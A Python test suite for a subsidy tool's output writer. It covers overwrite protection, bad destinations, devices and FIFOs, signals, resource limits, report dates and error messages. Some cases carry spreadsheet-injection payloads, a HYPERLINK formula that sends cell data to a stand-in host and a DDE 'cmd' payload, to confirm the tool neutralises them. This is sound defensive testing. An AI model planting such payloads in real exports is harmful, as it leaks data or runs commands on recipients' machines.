"""The output side of the catalog (issue 13): where results are written. One writer (OutputFile)
refuses to write over an input, finds a bad destination before any work, writes through links and
to devices and FIFOs, checks every write (standard output too), leaves no temporary file on any
way out, keeps spreadsheet cells from running as formulas, and says why it failed."""
import csv
import io
import json
import os
import resource
import signal
import threading
import time

from common import FACTS, FARM, HEAD, INV, profile, rule, rule_file

ONE = profile("{}") + "\n"
TWO = profile('{"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}]}') + "\n" + ONE
FULL = "No space left on device"


def many(tmp, n=150000):
    """A JSON Lines input that takes a few seconds to score."""
    line = profile('{"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}], "main_revenue": {"2022": 30000000}}') + "\n"
    with open(os.path.join(tmp, "big.jsonl"), "w", encoding="utf-8") as f:
        f.write(line * n)


# 1,000 rows for standard input.
ROWS = (profile('{"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}]}') + "\n").encode() * 1000


def absent(*paths):
    def check(tmp, text, code):
        there = [p for p in paths if os.path.lexists(os.path.join(tmp, p))]
        return f"should not exist: {there}" if there else ""
    return check


def link(src, name, hard=False):
    def setup(tmp):
        (os.link if hard else os.symlink)(os.path.join(tmp, src) if hard else src, os.path.join(tmp, name))
    return setup


def symlink_kept(tmp, text, code):
    if not os.path.islink(os.path.join(tmp, "out.jsonl")):
        return "out.jsonl is no longer a symbolic link"
    lines = open(os.path.join(tmp, "real", "target.jsonl"), encoding="utf-8").read().splitlines()
    return "" if len(lines) == 2 else f"the link's target holds {len(lines)} records"


def fifo_reader(tmp):
    """Makes the FIFO out.pipe and a reader that copies what comes through into got."""
    path = os.path.join(tmp, "out.pipe")
    os.mkfifo(path)

    def read():
        with open(path, "rb") as src, open(os.path.join(tmp, "got"), "wb") as dst:
            dst.write(src.read())
        open(os.path.join(tmp, "got.done"), "w").close()
    threading.Thread(target=read, daemon=True).start()


def fifo_got(prefix):
    def check(tmp, text, code):
        for _ in range(50):
            if os.path.exists(os.path.join(tmp, "got.done")):
                break
            time.sleep(0.1)
        got = open(os.path.join(tmp, "got"), "rb").read() if os.path.exists(os.path.join(tmp, "got")) else b""
        return "" if got.startswith(prefix) else f"the FIFO's reader got {got[:40]!r}"
    return check


INJECT = "".join(json.dumps({"id": i, "form": "enterprise", "region": "330802", "policy_year": 2023,
                             "facts": {"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}]}}, ensure_ascii=False) + "\n"
                 for i in ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
                           "\tTAB", "\rCR", "plain"])


def csv_neutralised(tmp, text, code):
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    ids = [r[rows[0].index("id")] for r in rows[1:8]]
    want = ["'" + i if i[0] in "=+-@\t\r" else i for i in
            ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR", "plain"]]
    if ids != want:
        return f"ids {ids!r}, expected {want!r}"
    total = rows[0].index("total")
    return "" if all(r[total] == "120000.00" for r in rows[1:8]) else "a total is not a plain number"


def xlsx_neutralised(tmp, text, code):
    from openpyxl import load_workbook
    book = load_workbook(os.path.join(tmp, "out.xlsx"), read_only=True)
    rows = list(book["summary"].iter_rows(values_only=True))[:-1]  # the last row: the total row
    ids = [r[rows[0].index("ID")] for r in rows[1:]]
    if ids[:4] != ["'" + '=HYPERLINK("http://x.example/?q="&A1,"click")', "'+1+1", "'-2+3", "'@SUM(A1:A9)"]:
        return f"ids {ids!r}"
    total = rows[0].index("Total of grants")
    if not all(isinstance(r[total], (int, float)) for r in rows[1:]):
        return "a total is not a number cell"
    detail = list(book["detail"].iter_rows(values_only=True))
    first = detail[1][detail[0].index("ID")]
    return "" if first.startswith("'=") else f"detail id {first!r}"


def starts_with_bom(path, bom=True):
    """The file starts with a UTF-8 byte-order mark (bom) or does not, and then with the CSV header."""
    def check(tmp, text, code):
        head = open(os.path.join(tmp, path), "rb").read(8)
        has = head.startswith(b"\xef\xbb\xbf")
        return "" if has == bom else f"{path} starts with {head!r}"
    return check


def xlsx_long_id(tmp, text, code):
    from openpyxl import load_workbook
    rows = list(load_workbook(os.path.join(tmp, "out.xlsx"), read_only=True)["summary"].iter_rows(values_only=True))
    cell = rows[1][rows[0].index("ID")]
    return "" if len(cell) == 32767 and cell.endswith("…") else f"id cell of {len(cell)} characters"


def is_char_device(path):
    def check(tmp, text, code):
        import stat
        return "" if stat.S_ISCHR(os.stat(path).st_mode) else f"{path} is no longer a device"
    return check


def heavy(tmp):
    """Two 14 MB lines whose JSON trees take several hundred MB each: parsed on a worker thread."""
    line = HEAD + '{}, "notes": [' + ",".join(["1"] * (7 << 20)) + "]}\n"
    open(os.path.join(tmp, "heavy.jsonl"), "w").write(ONE + line * 2)


# 160 MB of address space: the binary and its threads fit, one parsed 14 MB line (about 200 MB
# with the compact JSON tree) does not.
OOM = {"setup": heavy, "rlimits": {resource.RLIMIT_AS: 160 << 20}, "max_mb": 400, "i18n": False}

RULES = {"r/facts.json": FACTS, "r/cat.json": rule_file([rule({"kind": "unspecified"})])}
ABORT = {"max_mb": 512, "i18n": False}

# name, files {name: text or bytes}, args, exit code, expected text (in stdout or stderr)
CASES = [
    # --- never write over an input: exit 3 before any work ---
    ("out-same-as-input", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "in.jsonl"], 3,
     "in.jsonl: is the input in.jsonl; refusing to write over it (nothing done)"),
    ("out-same-as-input-dot-slash", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "./in.jsonl"], 3,
     "./in.jsonl: is the input in.jsonl; refusing to write over it"),
    ("out-same-as-input-symlink", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "link.jsonl"], 3,
     "link.jsonl: is the input in.jsonl", {"setup": link("in.jsonl", "link.jsonl")}),
    ("out-same-as-input-hardlink", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "hard.jsonl"], 3,
     "hard.jsonl: is the input in.jsonl", {"setup": link("in.jsonl", "hard.jsonl", hard=True)}),
    ("out-same-as-input-csv", {"in.csv": "id,form,region,policy_year\na,family_farm,330802,2023\n"},
     ["batch", "in.csv", "-o", "in.csv"], 3, "in.csv: is the input in.csv"),
    ("out-same-as-input-xlsx-format", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "in.jsonl", "--format", "xlsx"], 3,
     "in.jsonl: is the input in.jsonl"),
    ("stdout-is-the-input", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "-"], 3,
     "standard output: is the input in.jsonl", {"stdout": "in.jsonl", "may_change": ["in.jsonl"], "i18n": False}),
    ("batch-onto-rule-file", dict(RULES, **{"in.jsonl": ONE}),
     ["batch", "in.jsonl", "--rules", "r", "-o", "r/cat.json"], 3, "r/cat.json: is the input r/cat.json"),
    ("junit-onto-rule-file", RULES, ["test", "r", "--junit", "r/cat.json"], 3,
     "r/cat.json: is the input r/cat.json; refusing to write over it"),
    ("junit-onto-rule-file-via-link", RULES, ["test", "r", "--junit", "j.xml"], 3,
     "j.xml: is the input r/facts.json", {"setup": link("r/facts.json", "j.xml")}),
    # --- a bad destination is found before scoring, with the reason ---
    ("out-into-directory", {"in.jsonl": ONE, "d/keep": "x"}, ["batch", "in.jsonl", "-o", "d"], 3,
     "d: is a directory; give a file name"),
    ("out-parent-missing", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "nodir/out.jsonl"], 3,
     "nodir/out.jsonl: cannot write: the directory nodir does not exist"),
    ("out-parent-is-file", {"in.jsonl": ONE, "f": "x"}, ["batch", "in.jsonl", "-o", "f/out.jsonl"], 3,
     "f/out.jsonl: cannot write: f is not a directory"),
    ("out-empty-name", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", ""], 3, "the output file name is empty"),
    ("xlsx-parent-missing-before-scoring", {"big.jsonl": None}, ["batch", "big.jsonl", "-o", "nodir/out.xlsx"], 3,
     "nodir/out.xlsx: cannot write: the directory nodir does not exist",
     {"setup": many, "max_seconds": 3, "absent": "Usually a permissions error", "i18n": False}),
    ("xlsx-parent-missing-zh", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "nodir/out.xlsx"], 3,
     "nodir/out.xlsx：无法写入：目录 nodir 不存在", {"chinese": True, "absent": "Usually"}),
    ("junit-parent-missing", RULES, ["test", "r", "--junit", "no/j.xml"], 3,
     "no/j.xml: cannot write: the directory no does not exist"),
    # --- standard output is checked: exit 3 ---
    ("stdout-full-batch", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "-", "--quiet"], 3,
     "standard output: write failed: " + FULL, {"stdout": "/dev/full", "i18n": False}),
    ("stdout-full-eval", {"p.json": profile("{}")}, ["eval", "p.json"], 3,
     "standard output: write failed: " + FULL, {"stdout": "/dev/full", "i18n": False}),
    ("stdout-full-rules", {}, ["rules"], 3, "standard output: write failed: " + FULL,
     {"stdout": "/dev/full", "i18n": False}),
    ("stdout-full-schema", {}, ["schema", "rules"], 3, "standard output: write failed: " + FULL,
     {"stdout": "/dev/full", "i18n": False}),
    ("stdout-full-questionnaire", {}, ["questionnaire", "--region", "330802", "--form", "enterprise"], 3,
     "standard output: write failed: " + FULL, {"stdout": "/dev/full", "i18n": False}),
    ("stdout-full-help", {}, ["eval", "--help"], 3, "standard output: write failed: " + FULL,
     {"stdout": "/dev/full", "i18n": False}),
    ("stdout-full-zh", {"p.json": profile("{}")}, ["eval", "p.json"], 3, "标准输出：写入失败：设备上没有空间",
     {"stdout": "/dev/full", "chinese": True, "i18n": False}),
    # --- devices, FIFOs and links ---
    ("out-dev-full", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "/dev/full", "--quiet"], 3,
     "/dev/full: write failed: " + FULL, {"check": is_char_device("/dev/full")}),
    ("out-dev-null", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "/dev/null", "--quiet"], 0, "",
     {"check": is_char_device("/dev/null")}),
    ("xlsx-to-dev-null", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "/dev/null", "--format", "xlsx", "--quiet"],
     0, "", {"check": is_char_device("/dev/null"), "env": {"TMPDIR": "."}}),
    ("xlsx-to-dev-full", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "/dev/full", "--format", "xlsx"], 3,
     "/dev/full: write failed: " + FULL, {"env": {"TMPDIR": "."}}),
    ("xlsx-to-fifo", {"in.jsonl": TWO}, ["batch", "in.jsonl", "-o", "out.pipe", "--format", "xlsx", "--quiet"], 0, "",
     {"setup": fifo_reader, "check": fifo_got(b"PK\x03\x04"), "env": {"TMPDIR": "."}, "i18n": False}),
    ("jsonl-to-fifo", {"in.jsonl": TWO}, ["batch", "in.jsonl", "-o", "out.pipe", "--quiet"], 0, "",
     {"setup": fifo_reader, "check": fifo_got(b'{"row":1'), "i18n": False}),
    ("out-through-symlink", {"in.jsonl": TWO, "real/keep": ""}, ["batch", "in.jsonl", "-o", "out.jsonl", "--quiet"],
     0, "", {"setup": link("real/target.jsonl", "out.jsonl"), "check": symlink_kept}),
    ("out-through-dangling-symlink", {"in.jsonl": TWO}, ["batch", "in.jsonl", "-o", "out.jsonl", "--quiet"],
     0, "", {"setup": lambda tmp: (os.mkdir(os.path.join(tmp, "real")), link("real/target.jsonl", "out.jsonl")(tmp)),
             "check": symlink_kept}),
    # --- signals: a terminated run leaves nothing ---
    # The input is a pipe held open: the run is mid-way (its temporary output made, waiting for
    # more rows) when the signal comes, however fast the machine scores.
    ("sigterm-mid-run", {}, ["batch", "-", "-o", "out.jsonl", "--quiet"], 143, "",
     {"stdin": ROWS, "stdin_open": True, "signal": (1.0, signal.SIGTERM), "check": absent("out.jsonl"),
      "i18n": False}),
    ("sighup-mid-run-xlsx", {}, ["batch", "-", "-o", "out.xlsx", "--quiet"], 129, "",
     {"stdin": ROWS, "stdin_open": True, "signal": (1.0, signal.SIGHUP), "check": absent("out.xlsx"),
      "i18n": False}),
    ("sigint-mid-run-csv", {}, ["batch", "-", "-o", "out.csv", "--quiet"], 130, "",
     {"stdin": ROWS, "stdin_open": True, "signal": (1.0, signal.SIGINT), "check": absent("out.csv"),
      "i18n": False}),
    # --- resources: exit 6, nothing left behind ---
    ("fsize-limit-jsonl", {"big.jsonl": None}, ["batch", "big.jsonl", "-o", "out.jsonl", "--quiet"], 6,
     "out.jsonl: write failed: File too large",
     {"setup": lambda tmp: many(tmp, 3000), "rlimits": {resource.RLIMIT_FSIZE: 1 << 20},
      "check": absent("out.jsonl"), "i18n": False}),
    # A limit inside a block: the write that reaches it is cut short at an offset direct I/O
    # cannot write (core/direct_writer.h); the rest goes through the page cache, and the reason
    # given is the limit, not "Invalid argument". (Where the test's directory refuses O_DIRECT,
    # as older tmpfs does, this passes through the page cache alone and tests only that path.)
    ("fsize-limit-unaligned", {"big.jsonl": None}, ["batch", "big.jsonl", "-o", "out.jsonl", "--quiet"], 6,
     "out.jsonl: write failed: File too large",
     {"setup": lambda tmp: many(tmp, 3000), "rlimits": {resource.RLIMIT_FSIZE: (1 << 20) + 100},
      "check": absent("out.jsonl"), "i18n": False}),
    ("fsize-limit-xlsx", {"big.jsonl": None}, ["batch", "big.jsonl", "-o", "out.xlsx", "--quiet"], 6,
     "File too large",
     {"setup": lambda tmp: many(tmp, 2000), "rlimits": {resource.RLIMIT_FSIZE: 1 << 20}, "env": {"TMPDIR": "."}, "max_mb": 512,
      "check": absent("out.xlsx"), "absent": "[ERROR]", "i18n": False}),
    ("nofile-limit-xlsx", {"in.jsonl": TWO}, ["batch", "in.jsonl", "-o", "out.xlsx", "--quiet", "--threads", "1"], 6,
     "Too many open files",
     {"rlimits": {resource.RLIMIT_NOFILE: 6}, "check": absent("out.xlsx"), "absent": "[ERROR]", "i18n": False}),
    ("nofile-limit-jsonl", {"in.jsonl": TWO}, ["batch", "in.jsonl", "-o", "out.jsonl", "--quiet", "--threads", "1"], 6,
     "out.jsonl: cannot write: Too many open files", {"rlimits": {resource.RLIMIT_NOFILE: 4}, "i18n": False}),
    # out of memory on a worker thread, and on the only thread: a clean stop, exit 6
    ("out-of-memory-worker", {"heavy.jsonl": None}, ["batch", "heavy.jsonl", "-o", "out.xlsx", "--threads", "2"], 6,
     "subsidy: out of memory", dict(OOM, check=absent("out.xlsx"))),
    ("out-of-memory-one-thread", {"heavy.jsonl": None}, ["batch", "heavy.jsonl", "-o", "out.jsonl", "--threads", "1"],
     6, "subsidy: out of memory", dict(OOM, check=absent("out.jsonl"))),
    ("out-of-memory-zh", {"heavy.jsonl": None}, ["batch", "heavy.jsonl", "-o", "out.jsonl"], 6,
     "subsidy: 内存不足", dict(OOM, chinese=True)),
    # --- spreadsheet safety: text that looks like a formula is neutralised, numbers stay numbers ---
    ("csv-injection-batch", {"in.jsonl": INJECT},
     ["batch", "in.jsonl", "-o", "-", "--format", "csv", "--excel", "--quiet"], 0, "'+1+1",
     {"check": csv_neutralised}),
    ("csv-injection-eval", {"p.json": json.dumps({"id": "=cmd|' /C calc'!A0", "form": "enterprise",
                                                  "region": "330802", "policy_year": 2023,
                                                  "facts": {"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}]}})},
     ["eval", "p.json", "--format", "csv"], 0, "'=cmd|' /C calc'!A0,", {"absent": "\n=cmd"}),
    ("xlsx-injection", {"in.jsonl": INJECT}, ["batch", "in.jsonl", "-o", "out.xlsx", "--quiet"], 0, "",
     {"check": xlsx_neutralised}),
    ("jsonl-keeps-ids-as-given", {"in.jsonl": INJECT}, ["batch", "in.jsonl", "-o", "-", "--quiet"], 0,
     '"id":"+1+1"', {"absent": "'+1+1"}),
    ("xlsx-id-longer-than-a-cell", {"in.jsonl": json.dumps({"id": "x" * 40000, "form": "family_farm", "roles": ["agricultural_producer", "grain_grower"], "region": "330802",
                                                           "policy_year": 2023, "facts": {}}) + "\n"},
     ["batch", "in.jsonl", "-o", "out.xlsx", "--quiet"], 0, "", {"check": xlsx_long_id}),
    # --- eval's CSV for a spreadsheet program: a byte-order mark on request, only for CSV ---
    ("eval-csv-excel-bom", {"p.json": profile('{"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}]}')},
     ["eval", "p.json", "--format", "csv", "--excel"], 0, "", {"stdout": "out.csv", "check": starts_with_bom("out.csv")}),
    ("eval-csv-no-bom-by-default", {"p.json": profile('{"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}]}')},
     ["eval", "p.json", "--format", "csv"], 0, "", {"stdout": "out.csv", "check": starts_with_bom("out.csv", False)}),
    ("eval-excel-needs-csv", {"p.json": profile("{}")}, ["eval", "p.json", "--excel"], 2,
     "--excel applies only to --format csv"),
    # --- when a report was produced: SUBSIDY_NOW, else SOURCE_DATE_EPOCH, else the clock ---
    ("report-date-from-subsidy-now", {"p.json": profile("{}")}, ["eval", "p.json"], 0,
     "Produced 2031-07-04 (UTC) · rules version ", {"env": {"SUBSIDY_NOW": "2031-07-04"}}),
    ("report-date-from-source-date-epoch", {"p.json": profile("{}")},
     ["eval", "p.json", "--format", "json"], 0, '"generated": "2023-11-14"',
     {"env": {"SUBSIDY_NOW": "", "SOURCE_DATE_EPOCH": "1700000000"}}),
    ("report-date-subsidy-now-first", {"p.json": profile("{}")}, ["eval", "p.json", "--format", "md"],
     0, "- Produced 2031-07-04 (UTC)", {"env": {"SUBSIDY_NOW": "2031-07-04", "SOURCE_DATE_EPOCH": "0"}}),
    ("report-date-bad-subsidy-now", {"p.json": profile("{}")}, ["eval", "p.json"], 2,
     'SUBSIDY_NOW must be a date written YYYY-MM-DD, not "2026-02-30"',
     {"env": {"SUBSIDY_NOW": "2026-02-30"}, "absent": "Applicant"}),
    ("report-date-bad-subsidy-now-zh", {"p.json": profile("{}")}, ["eval", "p.json"], 2,
     'SUBSIDY_NOW 必须是 YYYY-MM-DD 形式的日期，而不是 "15.01.2026"',
     {"env": {"SUBSIDY_NOW": "15.01.2026"}, "chinese": True}),
    ("report-date-bad-source-date-epoch", {"p.json": profile("{}")}, ["eval", "p.json"], 2,
     'SOURCE_DATE_EPOCH must be a whole number of seconds, not "-5"',
     {"env": {"SUBSIDY_NOW": "", "SOURCE_DATE_EPOCH": "-5"}}),
    # --- messages give the reason ---
    ("unknown-command", {}, ["evaluate", "x"], 2, 'unknown command "evaluate" (did you mean "eval"?)'),
    ("unknown-command-typo", {}, ["bacth", "x"], 2, 'unknown command "bacth" (did you mean "batch"?)'),
    ("unknown-command-zh", {}, ["evaluate", "x"], 2, '未知的子命令 "evaluate"', {"chinese": True}),
    ("unknown-command-no-guess", {}, ["zzzzzzzz"], 2, 'unknown command "zzzzzzzz"',
     {"absent": "did you mean"}),
]

# Address-space limits mean nothing under AddressSanitizer, which reserves terabytes of shadow
# memory, and its run-time needs descriptors of its own (tests/CMakeLists.txt sets
# SUBSIDY_SANITIZED in that build).
if os.environ.get("SUBSIDY_SANITIZED"):
    CASES = [c for c in CASES if not {resource.RLIMIT_AS, resource.RLIMIT_NOFILE} &
             set((c[5] if len(c) > 5 else {}).get("rlimits", {}))]

CHINESE = set()
